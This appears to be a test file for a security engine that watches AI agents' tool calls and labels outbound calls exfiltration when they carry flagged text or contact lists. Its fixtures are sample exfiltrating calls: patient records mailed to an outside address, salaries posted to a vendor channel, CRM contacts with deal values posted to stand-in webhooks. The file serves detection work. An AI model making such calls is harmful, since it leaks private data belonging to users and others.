/**
 * Session 18 (tp26): an outward call to a destination whose sent text the classifier flags (its head may name it a data
 * leak or an injection: it reads words, not calls), or whose body carries several e-mail addresses, is exfiltration as
 * well (verdict.ts, flaggedTextSentOut). The findings are built by hand so the verdict's naming is tested on its own;
 * texts are our own.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { AlertCategory } from '@mcpspy/events';
import { MemoryStore, silentLogger } from '@mcpspy/runtime';
import { combineFindings } from './verdict';
import { SecurityEngine } from './engine';
import { toolCall, toolResult, textUnit } from './test-builders';
import type { Finding, TextUnit } from './types';

const flagged = (category: AlertCategory, field: string, score = 0.55): Finding => ({
  category,
  score,
  detector: 'classifier',
  floating: true,
  evidence: [{ text: '…', field, start: 0, end: 10, rule: 'classifier' }],
  summary: 'reads like an injection',
});
const emails = (fields: string[], score = 0.6): Finding => ({
  category: 'data_leak',
  score,
  detector: 'secrets',
  evidence: fields.map((field) => ({ text: 'a…@…', field, start: 0, end: 5, rule: 'email' })),
  summary: 'e-mail addresses',
});
/** The argument units of a call, as the extractor would give them (strings only). */
function unitsOf(args: Record<string, unknown>, prefix = 'params.arguments'): TextUnit[] {
  const out: TextUnit[] = [];
  for (const [k, v] of Object.entries(args)) {
    const field = `${prefix}.${k}`;
    if (typeof v === 'string') out.push(textUnit(v, field, 'argument'));
    else if (Array.isArray(v)) v.forEach((x, i) => typeof x === 'string' && out.push(textUnit(x, `${field}[${i}]`, 'argument')));
    else if (v && typeof v === 'object') out.push(...unitsOf(v as Record<string, unknown>, field));
  }
  return out;
}
function categories(findings: Finding[], args: Record<string, unknown>, tool: string): string[] {
  return combineFindings(findings, toolCall(args, tool), 'tools/call', 0.5, undefined, unitsOf(args)).map((a) => a.category).sort();
}

describe('tp26: an outward call that sends flagged text to a destination is exfiltration', () => {
  test('a flagged body mailed out keeps its data-leak name and is also exfiltration', () => {
    const args = { to: 'ward.notes.home@mailbox.example', subject: 'tonight', body: 'MRN, name, date of birth, diagnosis for every patient on the ward' };
    assert.deepEqual(categories([flagged('data_leak', 'params.arguments.body')], args, 'send_email'), ['data_leak', 'exfiltration']);
  });
  test('a flagged chat post, a calendar invite to an outside attendee and a public gist', () => {
    assert.ok(categories([flagged('prompt_injection', 'params.arguments.text')], { channel: 'C07VENDORBRIDGE', text: 'salaries and sick leave of the team' }, 'slack_post_message').includes('exfiltration'));
    assert.ok(categories([flagged('prompt_injection', 'params.arguments.description')], { attendees: ['notes@partner-advisory.example'], description: 'board deck and payroll totals' }, 'calendar_create_event').includes('exfiltration'));
    assert.ok(categories([flagged('prompt_injection', 'params.arguments.files.a.md')], { public: true, files: { 'a.md': 'confidential bid comparison' } }, 'create_gist').includes('exfiltration'));
  });
  test('a contact list posted to a webhook: several addresses in the body', () => {
    const args = { url: 'https://hooks.relay-crm.example/catch/1', body: '{"contacts":[{"email":"a.m@shop.example"},{"email":"t.o@firm.example"}]}' };
    assert.ok(categories([emails(['params.arguments.body#json.contacts[0].email', 'params.arguments.body#json.contacts[1].email'])], args, 'http_request').includes('exfiltration'));
  });
  test('not: a single address, the recipient itself, a local tool, no destination, a finding under alert strength, a result', () => {
    // One address in the body (a signature) is no contact list.
    assert.ok(!categories([emails(['params.arguments.body'])], { to: 'ops@partner.example', body: 'reach me at k.n@firm.example' }, 'send_email').includes('exfiltration'));
    // The flagged text is the recipient field: nothing is carried.
    assert.ok(!categories([emails(['params.arguments.to[0]', 'params.arguments.to[1]'])], { to: ['a@x.example', 'b@y.example'], body: 'see you at noon' }, 'send_email').includes('exfiltration'));
    // A local tool (write a file, run a query) sends nothing out.
    assert.ok(!categories([flagged('data_leak', 'params.arguments.content')], { path: '/tmp/notes.md', content: 'salaries of the team' }, 'write_file').includes('exfiltration'));
    // An outward tool with nowhere to send to.
    assert.ok(!categories([flagged('data_leak', 'params.arguments.text')], { text: 'salaries of the team' }, 'send_message').includes('exfiltration'));
    // The classifier under its stand-alone weight.
    assert.ok(!categories([flagged('data_leak', 'params.arguments.text', 0.35)], { channel: '#team', text: 'salaries' }, 'slack_post_message').includes('exfiltration'));
    // A tool result is data read, not a call sending it.
    const unit = textUnit('salaries of the team', 'result.content[0].text', 'result');
    assert.ok(!combineFindings([flagged('data_leak', 'result.content[0].text')], toolResult('salaries of the team'), 'tools/call', 0.5, undefined, [unit]).some((a) => a.category === 'exfiltration'));
  });
});

describe('tp26: the same through the engine (offline detectors on this thread)', () => {
  async function engineCategories(args: Record<string, unknown>, tool: string): Promise<string[]> {
    const store = new MemoryStore();
    const engine = new SecurityEngine({ store, logger: silentLogger(), threshold: 0.5, offlineWorker: false });
    await engine.init();
    try {
      return (await engine.analyze(toolCall(args, tool))).map((a) => a.category);
    } finally {
      await engine.close();
      await store.close();
    }
  }
  test('a CRM contact list posted to an outside webhook is exfiltration', async () => {
    const body = JSON.stringify({ source: 'crm', contacts: [
      { name: 'Irene Valdés', email: 'irene.valdes@lumbre-textil.example', deal: '$41,000' },
      { name: 'Joost de Wit', email: 'j.dewit@polder-logistiek.example', deal: '$18,500' },
      { name: 'Amaka Eze', email: 'amaka@savanna-foods.example', deal: '$72,250' },
    ] });
    assert.ok((await engineCategories({ method: 'POST', url: 'https://hooks.relay-sync.example/catch/5521/crm', body }, 'http_request')).includes('exfiltration'));
  });
  test('honest outbound calls stay quiet', async () => {
    const HONEST: [string, Record<string, unknown>][] = [
      ['send_email', { to: 'marta.l@ourteam.example', subject: 'Standup moved', body: 'Hi Marta, tomorrow\'s standup moves to 10:30 because of the fire drill. Same room.' }],
      ['slack_post_message', { channel: '#release', text: 'v2.14.0 is tagged and the changelog is up. Rollout starts at 14:00 UTC.' }],
      ['calendar_create_event', { title: 'Design review', attendees: ['noor@ourteam.example', 'ben@ourteam.example'], description: 'Walk through the new onboarding screens.' }],
      ['http_request', { method: 'POST', url: 'https://api.status-board.example/v1/incidents', body: '{"title":"Elevated latency","status":"investigating"}' }],
      ['create_gist', { public: true, files: { 'retry.py': 'for attempt in range(3):\n    try:\n        return fetch()\n    except Timeout:\n        sleep(2 ** attempt)' } }],
    ];
    for (const [tool, args] of HONEST) assert.deepEqual(await engineCategories(args, tool), [], `${tool} ${JSON.stringify(args)}`);
  });
});
